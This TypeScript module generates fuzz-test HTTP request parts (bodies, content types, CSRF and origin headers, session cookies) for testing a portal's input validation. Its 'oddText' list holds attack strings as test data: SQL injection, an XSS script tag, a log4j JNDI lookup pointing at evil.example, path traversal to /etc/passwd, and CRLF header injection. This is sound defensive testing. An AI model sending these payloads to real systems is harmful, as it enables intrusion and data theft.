// Parts of the fuzz test's requests (item 16), each marked valid, invalid or either: bodies, headers, cookies.
import fc from "fast-check";
import { malformedContentTypes } from "#tests/support/content-types.ts";

/** A list of words written as one string. */
const words = (text: string) => text.split(" ");

export type Validity = "valid" | "invalid" | "either";
export type Part = { value: string | undefined; validity: Validity };
export type FuzzRequest = {
  method: "GET" | "HEAD" | "POST" | "PUT" | "DELETE" | "PATCH" | "OPTIONS";
  url: string;
  headers: Record<string, string>;
  payload?: string;
  validity: Validity;
};

export const combine = (...parts: Validity[]): Validity =>
  parts.includes("invalid") ? "invalid" : parts.includes("either") ? "either" : "valid";

export const part = (value: string | undefined, validity: Validity): Part => ({ value, validity });
const mark = (validity: Validity) => (value: string | undefined) => part(value, validity);

/** Strings people and attackers type: injections, control characters, odd Unicode, path tricks. */
export const oddText = fc.oneof(
  fc.string({ unit: "binary", maxLength: 24 }),
  fc.string({ unit: "grapheme", maxLength: 24 }),
  fc.constantFrom(
    "' OR 1=1 --",
    "<script>alert(1)</script>",
    ["$", "{jndi:ldap://evil.example/a}"].join(""), // a log4j lookup, as typed
    "../../etc/passwd",
    "..\\..\\boot.ini",
    "%00",
    "\u0000",
    "__proto__",
    "constructor",
    "\u202e\u0000\uffff",
    "😀👩‍💻",
    "{{7*7}}",
    "alice\r\nSet-Cookie: x=1",
  ),
);

/** Header-safe printable text (an HTTP client cannot send anything else). */
const headerText = fc.string({ unit: "binary-ascii", maxLength: 40 }).map((s) => s.replace(/[^\x20-\x7e]/g, "").trim());

/** A JSON-object body for a schema of string fields `{ name: [minLength, maxLength] }`, broken in one of many ways. */
export function jsonBody(fields: Record<string, [number, number]>, invalidWeight = 10): fc.Arbitrary<Part> {
  const names = Object.keys(fields);
  const fitting = (name: string) => {
    const [min, max] = fields[name] ?? [0, 0];
    return fc.string({ unit: "binary", minLength: min, maxLength: Math.min(max, 30) }).filter((s) => s.length >= min);
  };
  const valid = fc.record(Object.fromEntries(names.map((name) => [name, fitting(name)])));
  const wrongValue = fc.oneof(
    fc.integer(),
    fc.boolean(),
    fc.constant(null),
    fc.array(fc.string(), { maxLength: 3 }),
    fc.object({ maxDepth: 1 }),
  );
  const field = fc.constantFrom(...names);
  const invalid = fc.oneof(
    {
      weight: 3,
      arbitrary: fc
        .tuple(valid, field)
        .map(([body, name]) => JSON.stringify({ ...body, [name]: undefined }))
        .map(mark("invalid")),
    },
    {
      weight: 3,
      arbitrary: fc
        .tuple(
          valid,
          fc.oneof(fc.constantFrom("__proto__", "constructor", "prototype", "admin", "token", ""), fc.string()),
          fc.jsonValue(),
        )
        .filter(([, key]) => !names.includes(key))
        .map(
          ([body, key, value]) =>
            `${JSON.stringify(body).slice(0, -1)}${names.length ? "," : ""}${JSON.stringify(key)}:${JSON.stringify(value ?? null)}}`,
        )
        .map(mark("invalid")),
    },
    {
      weight: 3,
      arbitrary: fc
        .tuple(valid, field, wrongValue)
        .map(([body, name, value]) => JSON.stringify({ ...body, [name]: value }))
        .map(mark("invalid")),
    },
    {
      weight: 2,
      arbitrary: fc
        .tuple(valid, field, fc.integer({ min: 1, max: 60 }))
        .map(([body, name, extra]) => JSON.stringify({ ...body, [name]: "x".repeat((fields[name]?.[1] ?? 0) + extra) }))
        .map(mark("invalid")),
    },
    {
      weight: 2,
      arbitrary: fc
        .jsonValue({ maxDepth: 3 })
        .filter((v) => v === null || typeof v !== "object" || Array.isArray(v))
        .map((v) => JSON.stringify(v))
        .map(mark("invalid")),
    },
    {
      weight: 2,
      arbitrary: fc
        .oneof(
          fc.constantFrom("{", '{"a":', "}", "undefined", "NaN", "{'a':1}", "[1,]", '{"a":1}x', "\u0000{}"),
          fc.string(),
        )
        .filter((text) => {
          try {
            JSON.parse(text);
            return false;
          } catch {
            return true;
          }
        })
        .map(mark("invalid")),
    },
    {
      weight: 1,
      arbitrary: fc
        .integer({ min: 17_000, max: 40_000 })
        .map((n) => JSON.stringify({ [names[0] ?? "a"]: "y".repeat(n) }))
        .map(mark("invalid")),
    },
    {
      weight: 1,
      arbitrary: fc
        .integer({ min: 500, max: 5_000 })
        .map((n) => `${"[".repeat(n)}${"]".repeat(n)}`)
        .map(mark("invalid")),
    },
  );
  return fc.oneof(
    { weight: 1, arbitrary: valid.map((body) => part(JSON.stringify(body), "valid")) },
    { weight: invalidWeight, arbitrary: invalid },
  );
}

/** A JSON type with broken parameters or spacing (tests/support/content-types.ts), and more of the kind generated. */
export const malformedContentType = fc.oneof(
  fc.constantFrom(...malformedContentTypes),
  fc
    .tuple(
      fc.constantFrom(";", "; ", " ;", ";;"),
      fc.string({ maxLength: 12 }).filter((name) => !/[;=]/.test(name)),
      fc.constantFrom("", "=", "=x", '="x', ";"),
    )
    .map(([separator, name, value]) => `application/json${separator}${name}${value}`)
    // A well-formed parameter (RFC 9110 5.6.6: spaces around the `;`, a token on each side of the `=`) is not broken.
    .filter((type) => !/^application\/json *; *[!#$%&'*+.^_`|~0-9A-Za-z-]+=[!#$%&'*+.^_`|~0-9A-Za-z-]+$/.test(type)),
);

/** The Content-Type of a body: JSON is the islands'; others are refused or not an object. */
export const jsonContentType = fc.oneof(
  { weight: 12, arbitrary: fc.constant(part("application/json", "valid")) },
  { weight: 1, arbitrary: fc.constant(part("application/json; charset=utf-8", "valid")) },
  { weight: 1, arbitrary: fc.constant(part("application/x-www-form-urlencoded", "either")) },
  {
    weight: 1,
    arbitrary: fc
      .constantFrom("text/plain", "application/xml", "multipart/form-data; boundary=x", "image/png")
      .map(mark("invalid")),
  },
  { weight: 2, arbitrary: malformedContentType.map(mark("invalid")) },
);

/** The islands' CSRF header, mostly right. */
export const csrfHeader = fc.oneof(
  { weight: 12, arbitrary: fc.constant(part("1", "valid")) },
  { weight: 1, arbitrary: fc.constantFrom(undefined, "0", "true", "", "1, 1").map(mark("invalid")) },
);

/** Where the request says it comes from: mostly nothing (same origin), sometimes another site. */
export const siteHeaders = fc.oneof(
  { weight: 10, arbitrary: fc.constant({ headers: {} as Record<string, string>, validity: "valid" as Validity }) },
  {
    weight: 1,
    arbitrary: fc.constant({ headers: { "sec-fetch-site": "same-origin" }, validity: "valid" as Validity }),
  },
  {
    weight: 2,
    arbitrary: fc
      .constantFrom<Record<string, string>>(
        { "sec-fetch-site": "cross-site" },
        { "sec-fetch-site": "same-site" },
        { origin: "https://evil.example" },
        { origin: "null" },
        { origin: "http://localhost.evil.example" },
      )
      .map((headers) => ({ headers, validity: "invalid" as Validity })),
  },
);

/** Headers a browser, proxy or attacker adds; the portal must not care. */
export const noiseHeaders = fc.dictionary(
  fc.constantFrom(
    ...words(
      "accept accept-language user-agent authorization x-forwarded-for x-forwarded-host forwarded x-real-ip referer cache-control if-none-match range x-http-method-override sec-purpose sec-fetch-dest",
    ),
  ),
  headerText,
  { maxKeys: 4 },
);

/** A session cookie: one of the test's real sessions, or a broken one. `name` is the identity it stands for. */
export function sessionCookie(real: Record<string, string>, cookieName: string) {
  const names = Object.keys(real);
  return fc.oneof(
    {
      weight: 8,
      arbitrary: fc.constantFrom(...names).map((name) => ({ name, header: `${cookieName}=${real[name] ?? ""}` })),
    },
    { weight: 1, arbitrary: fc.constant({ name: "none", header: "" }) },
    {
      weight: 2,
      arbitrary: fc.tuple(fc.constantFrom(...names), fc.nat(), headerText).map(([name, at, junk]) => {
        const value = real[name] ?? "";
        const i = at % Math.max(1, value.length);
        return {
          name: "broken",
          header: `${cookieName}=${value.slice(0, i)}${junk.replace(/[;,\s]/g, "")}${value.slice(i + 1)}`,
        };
      }),
    },
    {
      weight: 1,
      arbitrary: fc
        .constantFrom(
          "%E0%A4%A",
          "=;=;",
          `${cookieName}=`,
          `${cookieName}=a; ${cookieName}=b`,
          "a".repeat(5000),
          `x=${"%".repeat(30)}`,
        )
        .map((header) => ({ name: "broken", header })),
    },
  );
}
